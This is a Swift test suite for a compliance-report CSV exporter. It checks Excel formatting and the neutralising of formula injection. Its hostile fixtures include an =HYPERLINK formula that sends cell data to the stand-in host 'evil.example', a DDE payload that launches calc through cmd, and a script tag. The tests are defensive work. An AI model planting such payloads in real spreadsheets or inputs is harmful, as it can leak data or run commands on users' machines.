import Foundation
import KartaCheck
import KartaPlan
import KartaSchedule
import KartaTestSupport
import Testing

@testable import KartaReports

/// The CSV report: its golden file, the shape Russian Excel expects, and a plan whose text tries
/// to break the format or to run as a formula.
@Suite struct CSVReportTests {
  /// A plan whose every text is hostile: markup, formulas, quotes, separators, line breaks, a
  /// title of 10,000 characters. The calendar tests use it too.
  static let longTitle = String(repeating: "Дл;и\"нн,ое ", count: 1_000)

  static let hostilePlan = """
    plan hostile-2024: План <script>alert(1)</script>; "кавычки", запятые
      approved: 01.02.2024
      period: 2024
      timezone: Asia/Irkutsk
    subjects schools: Школы
      member s1: Школа «№ 1»; "лучшая"
      member s2: =HYPERLINK("http://evil.example/","Школа 2")
    party MIN: Министерство; отдел "А", <b>жирный</b>
    party SCHOOL: Школа
      each: schools
    section S1: 1. Раздел; с "кавычками"
    item 1: <script>alert(1)</script>
      owner: MIN
      due: до 1 марта 2024 года
    item 2: =HYPERLINK("http://evil.example/?q="&A1,"Нажмите")
      owner: MIN, SCHOOL
      due: до 15 марта 2024 года
    item 3: Текст с "кавычками"; точкой с запятой, запятой \\ и обратной косой
      вторая строка
      +третья строка, с плюса
      owner: SCHOOL
      due: до 1 апреля 2024 года, до 1 июня 2024 года
    item 4: \(longTitle)
      owner: MIN
      due: до 31 мая 2024 года
    item 5: @SUM(1;2)
      owner: MIN
      due: до 30 апреля 2024 года
    item 6: -2+3
      owner: MIN
      due: до 30 сентября 2024 года
    """

  static let hostileStatus = """
    {"format": "karta-status/1", "plan": "hostile-2024", "reporter": {"party": "MIN"}, "as_of": "2024-04-12",
     "records": [
       {"item": "1", "status": "done", "completed": "2024-02-20", "comment": "=cmd|' /C calc'!A0",
        "evidence": ["Приказ № 5; от \\"1\\" марта", "+7 (900) 000-00-00"]},
       {"item": "5", "status": "in_progress", "comment": "строка 1\\nстрока 2; \\"цитата\\"\\r\\n\\tтаб"}
     ]}
    """

  static func hostileReport(asOf: String = "2024-04-15") throws -> ComplianceReport {
    let loaded = PlanLoader.load(path: "hostile.plan", from: InMemorySources(["hostile.plan": hostilePlan]))
    #expect(!loaded.diagnostics.containsErrors, "\(loaded.diagnostics.map(\.message))")
    let table = ObligationTable(plan: loaded.plan)
    let status = StatusSet.load(files: [("min.json", Array(hostileStatus.utf8))], table: table)
    #expect(status.diagnostics.isEmpty, "\(status.diagnostics.map(\.message))")
    return ComplianceReport(table: table, status: status, asOf: try #require(CivilDate(parsing: asOf)))
  }

  /// Reads `;`-separated CSV as RFC 4180 has it: quoted cells may hold separators, quotes
  /// (doubled) and line breaks; records end with CRLF.
  static func parse(_ text: String) -> (rows: [[String]], bareLineBreaks: Int) {
    var rows: [[String]] = []
    var row: [String] = []
    var cell = ""
    var quoted = false
    var bare = 0
    let scalars = Array(text.unicodeScalars)
    var index = 0
    while index < scalars.count {
      let scalar = scalars[index]
      index += 1
      if quoted {
        if scalar == "\"" {
          if index < scalars.count, scalars[index] == "\"" {
            cell.unicodeScalars.append("\"")
            index += 1
          } else {
            quoted = false
          }
        } else {
          cell.unicodeScalars.append(scalar)
        }
        continue
      }
      switch scalar {
      case "\"" where cell.isEmpty: quoted = true
      case ";":
        row.append(cell)
        cell = ""
      case "\r" where index < scalars.count && scalars[index] == "\n":
        index += 1
        row.append(cell)
        rows.append(row)
        row = []
        cell = ""
      case "\r", "\n":
        bare += 1
        cell.unicodeScalars.append(scalar)
      default: cell.unicodeScalars.append(scalar)
      }
    }
    if !cell.isEmpty || !row.isEmpty { rows.append(row + [cell]) }
    return (rows, bare)
  }

  /// The text a neutralised cell stood for.
  static func original(_ cell: String) -> String {
    guard cell.hasPrefix("'"), let second = cell.unicodeScalars.dropFirst().first,
      ["=", "+", "-", "@", "\t", "\r"].contains(second)
    else { return cell }
    return String(cell.dropFirst())
  }

  @Test func matchesItsGoldenFile() throws {
    let output = CSVReport().render(try RendererGoldenTests.report())
    // Read as bytes: decoding a file as a String drops its byte-order mark.
    try GoldenFile.expectMatch(output, "report.csv")
  }

  @Test func isWhatRussianExcelOpens() throws {
    let report = try RendererGoldenTests.report()
    let output = CSVReport().render(report)
    #expect(Array(output.utf8.prefix(3)) == [0xEF, 0xBB, 0xBF])
    let (rows, bare) = Self.parse(String(output.dropFirst()))
    #expect(bare == 0, "records end with CRLF")
    #expect(rows.first == CSVReport.columns)
    #expect(rows.count == report.totals.total + 1)
    let dates = ["window_start", "due", "effective_due", "reported_date"].compactMap {
      CSVReport.columns.firstIndex(of: $0)
    }
    for row in rows.dropFirst() {
      for index in dates {
        #expect(row[index].isEmpty || row[index].wholeMatch(of: /\d\d\.\d\d\.\d{4}/) != nil, "\(row[index])")
      }
    }
    let column = Dictionary(uniqueKeysWithValues: CSVReport.columns.enumerated().map { ($1, $0) })
    // An id Excel would take for a date is written as a text formula that shows it as written.
    let moved = try #require(
      rows.first { $0[column["item"] ?? 0] == "=\"1.2\"" && $0[column["occurrence"] ?? 0] == "2" })
    #expect(moved[column["effective_due"] ?? 0] == "01.07.2024")
    #expect(moved[column["reported_status"] ?? 0] == "rescheduled")
    #expect(moved[column["notes"] ?? 0] == "moved to 01.07.2024 by письмо № 17")
    let commented = try #require(
      rows.first { $0[column["item"] ?? 0] == "=\"1.2\"" && $0[column["occurrence"] ?? 0] == "1" })
    #expect(commented[column["comment"] ?? 0] == "собрано 3 из 5")
    #expect(commented[column["notes"] ?? 0] == "")
  }

  @Test(arguments: [
    ("1.1", true), ("8.10", true), ("2.4.10", true), ("1,5", true), ("12", false), ("A1.8", false),
    ("1.", false), (".1", false), ("1.3 #2", false),
  ])
  func idsExcelWouldTakeForDatesAreKeptAsText(_ id: String, kept: Bool) {
    #expect(ExcelText.keptAsText(id) == (kept ? "=\"\(id)\"" : id))
    #expect(CSVReport.cell(ExcelText.keptAsText(id)).hasPrefix("'") == false)
    #expect(ExcelText.unwrapped(ExcelText.keptAsText(id)) == (kept ? id : nil))
  }

  @Test func hostileTextKeepsTheShapeAndRoundTrips() throws {
    let report = try Self.hostileReport()
    let output = CSVReport().render(report)
    let (rows, bare) = Self.parse(String(output.dropFirst()))
    #expect(bare == 0)
    #expect(rows.count == report.totals.total + 1)
    #expect(rows.allSatisfy { $0.count == CSVReport.columns.count }, "\(rows.map(\.count))")
    let column = Dictionary(uniqueKeysWithValues: CSVReport.columns.enumerated().map { ($1, $0) })
    let plan = report.table.plan
    for row in rows.dropFirst() {
      for cell in row {
        let first = cell.unicodeScalars.first
        #expect(!(first.map { ["=", "+", "-", "@", "\t", "\r"].contains($0) } ?? false), "a live formula: \(cell)")
      }
      let item = try #require(plan.item(row[column["item"] ?? 0]))
      #expect(Self.original(row[column["title"] ?? 0]) == item.title)
    }
    let formula = try #require(rows.first { $0[column["item"] ?? 0] == "2" })
    #expect(formula[column["title"] ?? 0] == "'=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Нажмите\")")
    let school = try #require(rows.first { $0[column["subject"] ?? 0] == "s2" })
    #expect(school[column["subject_name"] ?? 0] == "'=HYPERLINK(\"http://evil.example/\",\"Школа 2\")")
    let done = try #require(rows.first { $0[column["item"] ?? 0] == "1" })
    #expect(done[column["title"] ?? 0] == "<script>alert(1)</script>")
    #expect(done[column["comment"] ?? 0] == "'=cmd|' /C calc'!A0")
    #expect(done[column["evidence"] ?? 0] == "Приказ № 5; от \"1\" марта; +7 (900) 000-00-00")
    let multiline = try #require(rows.first { $0[column["item"] ?? 0] == "5" })
    #expect(multiline[column["comment"] ?? 0] == "строка 1\nстрока 2; \"цитата\"\r\n\tтаб")
    #expect(multiline[column["title"] ?? 0] == "'@SUM(1;2)")
    let long = try #require(rows.first { $0[column["item"] ?? 0] == "4" })
    #expect(long[column["title"] ?? 0] == Self.longTitle.trimmingCharacters(in: .whitespaces))
    #expect(rows.first { $0[column["item"] ?? 0] == "6" }?[column["title"] ?? 0] == "'-2+3")
    #expect(output.contains("План <script>") == false, "the plan's title is not a cell")
  }

  @Test(arguments: [
    ("plain", "plain"), ("a;b", "\"a;b\""), ("say \"hi\"", "\"say \"\"hi\"\"\""), ("two\nlines", "\"two\nlines\""),
    ("cr\rhere", "\"cr\rhere\""), ("=1+1", "'=1+1"), ("+7 900", "'+7 900"), ("-5", "'-5"), ("@A1", "'@A1"),
    ("\tx", "'\tx"), ("\rx", "\"'\rx\""), ("=a;b", "\"'=a;b\""), ("", ""), ("a=b", "a=b"),
  ])
  func aCellIsQuotedAndNeutralised(_ text: String, _ cell: String) {
    #expect(CSVReport.cell(text) == cell)
  }

  @Test func aCellPastExcelsLimitIsCut() {
    let cell = CSVReport.cell(String(repeating: "я", count: 40_000))
    #expect(cell.count == CSVReport.maximumCell)
    #expect(cell.hasSuffix("…"))
  }
}
